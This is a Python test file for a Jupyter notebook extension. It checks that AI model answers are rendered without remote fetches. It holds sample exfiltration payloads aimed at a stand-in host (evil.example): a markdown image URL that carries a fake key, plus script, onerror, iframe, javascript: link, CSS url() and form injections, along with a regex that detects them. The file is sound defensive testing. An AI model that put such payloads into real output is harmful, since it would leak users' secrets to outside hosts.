"""Safe rendering (issue 19, item 6): nothing in an answer makes the notebook fetch anything."""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

from IPython.core.interactiveshell import InteractiveShell

from a0nb.testing import answer

EXFIL = "https://evil.example/pixel.png?d=sk-LEAKED"
REMOTE_SRC = re.compile(r"""<img[^>]*\ssrc\s*=\s*["']?https?:""", re.I)


def _ask(shell: InteractiveShell, text: str, fmt: str) -> dict[str, Any]:
    Path("r.yaml").write_text(json.dumps([answer(text)]), encoding="utf-8")
    shell.run_line_magic("a0", "model scripted:r.yaml")
    shell.display_pub.outputs.clear()
    shell.run_line_magic("a0", f"ask -f {fmt} show me")
    data: dict[str, Any] = shell.display_pub.outputs[0]["data"]
    return data


def test_remote_markdown_image_is_shown_as_a_link(shell: InteractiveShell) -> None:
    html = _ask(shell, f"Done. ![chart]({EXFIL}) and ![dot](data:image/png;base64,iVBORw0KGgo=)", "markdown")["text/html"]
    assert not REMOTE_SRC.search(html)  # the saved notebook fetches nothing when opened
    assert f'href="{EXFIL}"' in html and "[image: chart]" in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html  # an inline image needs no request


def test_html_format_is_sanitized(shell: InteractiveShell) -> None:
    raw = (f'<b>bold</b><script>alert(1)</script><img src="{EXFIL}" onerror="steal()" alt="x">'
           '<iframe src="https://evil.example/"></iframe><a href="javascript:steal()">l</a>'
           '<p style="background:url(https://evil.example/b)">p</p><form action="https://evil.example/"><input></form>')
    data = _ask(shell, raw, "html")
    html = data["text/html"]
    assert "<b>bold</b>" in html
    for bad in ("<script", "onerror", "<iframe", "javascript:", "url(", "<form", "evil.example"):
        assert bad not in html, bad
    assert data["text/plain"] == raw  # the text itself is kept as the model wrote it


def test_sanitizer_and_markdown_load_lazily() -> None:
    code = ("import sys, a0nb, a0nb.notebook.magics; "
            "print(sorted(m for m in ('nh3', 'bleach', 'mistune') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"
